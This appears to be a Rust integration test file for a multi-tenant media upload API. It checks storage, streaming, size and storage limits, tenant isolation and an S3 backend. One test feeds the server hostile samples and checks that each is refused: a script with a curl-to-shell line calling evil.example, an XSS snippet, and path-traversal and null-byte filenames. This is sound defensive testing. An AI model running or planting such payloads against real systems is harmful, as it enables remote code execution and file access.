//! Media uploads: streamed to storage, typed by magic number, bounded in size
//! and by the company's storage limit, and never served to another company.

use std::path::Path;
use std::sync::Arc;

use reqwest::Method;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::fleet::{Fleet, Tenant, fleet, fleet_with};

/// A PNG signature followed by `size - 8` bytes of filler.
pub(crate) fn png(size: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    bytes.extend((0..size - 8).map(|i| (i % 251) as u8));
    bytes
}

fn files_under(dir: &Path) -> usize {
    std::fs::read_dir(dir)
        .map(|entries| entries.flatten().map(|e| if e.path().is_dir() { files_under(&e.path()) } else { 1 }).sum())
        .unwrap_or(0)
}

async fn artist(f: &Fleet, t: &Tenant) -> String {
    let r = f.post(t, "/v1/artists", &json!({"name": "Owls"})).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    r.data()["id"].as_str().unwrap().to_owned()
}

fn upload_request(
    f: &Fleet,
    t: &Tenant,
    query: &str,
    content_type: &str,
    body: reqwest::Body,
) -> reqwest::RequestBuilder {
    f.base
        .http
        .post(f.base.url(&format!("/v1/media?{query}")))
        .bearer_auth(&t.owner)
        .header("x-org", t.company.to_string())
        .header("content-type", content_type)
        .body(body)
}

pub(crate) async fn upload(
    f: &Fleet,
    t: &Tenant,
    query: &str,
    content_type: &str,
    bytes: Vec<u8>,
) -> marquee_testkit::Reply {
    f.base.send(upload_request(f, t, query, content_type, bytes.into())).await
}

#[tokio::test]
async fn an_upload_is_stored_streamed_back_and_deleted() {
    let f = fleet().await;
    let t = f.tenant().await;
    let owner = artist(&f, &t).await;
    let bytes = png(300_000);
    let query = format!("ownerType=artist&ownerId={owner}&filename=Press%20photo.png");
    let made = upload(&f, &t, &query, "image/png", bytes.clone()).await;
    assert_eq!(made.status, 201, "{:?}", made.body);
    let media = made.data().clone();
    assert_eq!(media["contentType"], "image/png");
    assert_eq!(media["sizeBytes"], 300_000);
    assert_eq!(media["filename"], "Press photo.png");
    assert_eq!(media["checksumSha256"], format!("{:x}", Sha256::digest(&bytes)));
    let id = media["id"].as_str().unwrap();
    assert_eq!(files_under(f.media_dir.path()), 1);

    let listed = f.get(&t, &format!("/v1/media?ownerType=artist&ownerId={owner}")).await;
    assert_eq!(listed.body["pagination"]["total"], 1);
    assert_eq!(f.get(&t, "/v1/media/usage").await.data()["usedBytes"], 300_000);

    let download = f
        .base
        .http
        .get(f.base.url(&format!("/v1/media/{id}/content")))
        .bearer_auth(&t.owner)
        .header("x-org", t.company.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(download.status(), 200);
    assert_eq!(download.headers()["content-type"], "image/png");
    let disposition = download.headers()["content-disposition"].to_str().unwrap().to_owned();
    assert!(disposition.starts_with("attachment; filename=\"Press photo.png\""), "{disposition}");
    assert_eq!(download.bytes().await.unwrap().as_ref(), bytes.as_slice());

    let deleted = f.call(Method::DELETE, &format!("/v1/media/{id}"), Some(&t.owner), Some(t.company), None).await;
    assert_eq!(deleted.status, 200);
    assert_eq!(f.get(&t, &format!("/v1/media/{id}")).await.status, 404);
    assert_eq!(f.get(&t, "/v1/media/usage").await.data()["usedBytes"], 0);
    assert_eq!(files_under(f.media_dir.path()), 0, "the object is gone too");
}

#[tokio::test]
async fn another_companys_media_is_unreachable() {
    let f = fleet().await;
    let t = f.tenant().await;
    let owner = artist(&f, &t).await;
    let made =
        upload(&f, &t, &format!("ownerType=artist&ownerId={owner}&filename=a.png"), "image/png", png(1000)).await;
    assert_eq!(made.status, 201, "{:?}", made.body);
    let id = made.data()["id"].as_str().unwrap().to_owned();

    let other = f.tenant().await;
    for path in [format!("/v1/media/{id}"), format!("/v1/media/{id}/content")] {
        assert_eq!(f.get(&other, &path).await.status, 404, "{path}");
    }
    let delete =
        f.call(Method::DELETE, &format!("/v1/media/{id}"), Some(&other.owner), Some(other.company), None).await;
    assert_eq!(delete.status, 404);
    assert_eq!(f.get(&other, "/v1/media").await.body["pagination"]["total"], 0);
    // Nor can another company attach a file to this company's artist.
    let foreign =
        upload(&f, &other, &format!("ownerType=artist&ownerId={owner}&filename=a.png"), "image/png", png(1000)).await;
    assert_eq!(foreign.fields(), ["ownerId"]);
    // The owner still has it, whole.
    assert_eq!(f.get(&t, &format!("/v1/media/{id}")).await.status, 200);
    assert_eq!(files_under(f.media_dir.path()), 1);
}

#[tokio::test]
async fn hostile_uploads_are_refused_and_nothing_is_written() {
    let f = fleet_with(&[("MEDIA_MAX_BYTES", "100000")]).await;
    let t = f.tenant().await;
    let owner = artist(&f, &t).await;
    let q = |name: &str| format!("ownerType=artist&ownerId={owner}&filename={name}");

    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec();
    let renamed = upload(&f, &t, &q("poster.png"), "image/png", script).await;
    assert_eq!((renamed.status.as_u16(), renamed.code()), (415, "UNSUPPORTED_MEDIA_TYPE"), "{:?}", renamed.body);
    let mislabeled = upload(&f, &t, &q("poster.jpg"), "image/jpeg", png(1000)).await;
    assert_eq!(mislabeled.status, 415, "a PNG declared as JPEG");
    let undeclared = upload(&f, &t, &q("poster.html"), "text/html", b"<script>alert(1)</script>".to_vec()).await;
    assert_eq!(undeclared.status, 415);

    let oversized = upload(&f, &t, &q("big.png"), "image/png", png(150_000)).await;
    assert_eq!((oversized.status.as_u16(), oversized.code()), (413, "PAYLOAD_TOO_LARGE"));
    // Without a length up front, the stream itself is cut at the limit.
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> = png(150_000).chunks(10_000).map(|c| Ok(c.to_vec())).collect();
    let streamed = f
        .base
        .send(upload_request(
            &f,
            &t,
            &q("big.png"),
            "image/png",
            reqwest::Body::wrap_stream(futures::stream::iter(chunks)),
        ))
        .await;
    assert_eq!(streamed.status, 413, "{:?}", streamed.body);

    for name in ["..%2F..%2Fetc%2Fpasswd.png", "a%2Fb.png", "..%5Cwin.png", ".htaccess", "x%00.png", ""] {
        let tricked = upload(&f, &t, &q(name), "image/png", png(1000)).await;
        assert_eq!((tricked.status.as_u16(), tricked.fields()), (400, vec!["filename".to_owned()]), "{name}");
    }
    let no_owner = upload(&f, &t, &q("a.png").replace("artist", "venue"), "image/png", png(1000)).await;
    assert_eq!(no_owner.fields(), ["ownerId"], "an artist's id is no venue");
    let bad_kind = upload(&f, &t, &q("a.png").replace("artist", "user"), "image/png", png(1000)).await;
    assert_eq!(bad_kind.fields(), ["ownerType"]);

    assert_eq!(files_under(f.media_dir.path()), 0, "nothing reached storage");
    assert_eq!(f.get(&t, "/v1/media").await.body["pagination"]["total"], 0);
    assert_eq!(f.get(&t, "/v1/media/usage").await.data()["usedBytes"], 0);
}

#[tokio::test]
async fn concurrent_uploads_never_pass_the_storage_limit() {
    let f = Arc::new(fleet().await);
    let t = Arc::new(f.tenant().await);
    let owner = artist(&f, &t).await;
    let revision = f.on_plan(&t, json!({"storageBytes": 250_000}), "storageBytes").await;
    let barrier = Arc::new(tokio::sync::Barrier::new(5));
    let mut tasks = Vec::new();
    for i in 0..5 {
        let (f, t, barrier, owner) = (f.clone(), t.clone(), barrier.clone(), owner.clone());
        tasks.push(tokio::spawn(async move {
            barrier.wait().await;
            let query = format!("ownerType=artist&ownerId={owner}&filename=p{i}.png");
            let request = upload_request(&f, &t, &query, "image/png", png(100_000).into())
                .header("x-access-revision", revision.to_string());
            let r = f.base.send(request).await;
            (r.status.as_u16(), r.code().to_owned())
        }));
    }
    let mut outcomes = Vec::new();
    for task in tasks {
        outcomes.push(task.await.unwrap());
    }
    outcomes.sort();
    assert_eq!(outcomes.iter().filter(|o| o.0 == 201).count(), 2, "{outcomes:?}");
    assert!(
        outcomes.iter().filter(|o| o.0 != 201).all(|o| o == &(403, "STORAGE_LIMIT_REACHED".to_owned())),
        "{outcomes:?}"
    );
    let usage: Value = f.get(&t, "/v1/media/usage").await.data().clone();
    assert_eq!(usage, json!({"usedBytes": 200_000, "limitBytes": 250_000}));
    assert_eq!(files_under(f.media_dir.path()), 2, "refused uploads left nothing behind");
}

/// The objects in an S3 bucket, as the store itself lists them.
async fn keys_in(endpoint: &str, bucket: &str) -> usize {
    let listing = reqwest::get(format!("{endpoint}/{bucket}?list-type=2")).await.unwrap().text().await.unwrap();
    listing.matches("<Key>").count()
}

/// The same story on an S3-compatible server, when TEST_S3_URL names one
/// (`.ci/run` starts one on loopback); the local-folder store is the default.
#[tokio::test]
async fn media_is_kept_in_an_s3_compatible_bucket() {
    let Some(endpoint) = marquee_testkit::required_server("TEST_S3_URL", "the S3 media store") else {
        return;
    };
    let bucket = format!("media-{}", uuid::Uuid::now_v7().simple());
    let created = reqwest::Client::new().put(format!("{endpoint}/{bucket}")).send().await.unwrap();
    assert!(created.status().is_success(), "bucket: {}", created.status());
    let f = fleet_with(&[
        ("MEDIA_S3_BUCKET", bucket.as_str()),
        ("MEDIA_S3_ENDPOINT", endpoint.as_str()),
        ("MEDIA_S3_ACCESS_KEY_ID", "test"),
        ("MEDIA_S3_SECRET_ACCESS_KEY", "test-secret"),
    ])
    .await;
    let t = f.tenant().await;
    let owner = artist(&f, &t).await;
    // Larger than one multipart part, so the upload goes up in parts.
    let bytes = png(6 * 1024 * 1024 + 123);
    let made =
        upload(&f, &t, &format!("ownerType=artist&ownerId={owner}&filename=rider.png"), "image/png", bytes.clone())
            .await;
    assert_eq!(made.status, 201, "{:?}", made.body);
    let id = made.data()["id"].as_str().unwrap().to_owned();
    assert_eq!(keys_in(&endpoint, &bucket).await, 1);
    let refused = upload(
        &f,
        &t,
        &format!("ownerType=artist&ownerId={owner}&filename=x.png"),
        "image/png",
        b"MZ\x90\x00".to_vec(),
    )
    .await;
    assert_eq!(refused.status, 415);
    assert_eq!(keys_in(&endpoint, &bucket).await, 1, "a refused upload leaves no object");

    let download = f
        .base
        .http
        .get(f.base.url(&format!("/v1/media/{id}/content")))
        .bearer_auth(&t.owner)
        .header("x-org", t.company.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(download.status(), 200);
    assert_eq!(Sha256::digest(download.bytes().await.unwrap()), Sha256::digest(&bytes));
    let other = f.tenant().await;
    assert_eq!(f.get(&other, &format!("/v1/media/{id}/content")).await.status, 404);

    let deleted = f.call(Method::DELETE, &format!("/v1/media/{id}"), Some(&t.owner), Some(t.company), None).await;
    assert_eq!(deleted.status, 200);
    assert_eq!(keys_in(&endpoint, &bucket).await, 0);
}
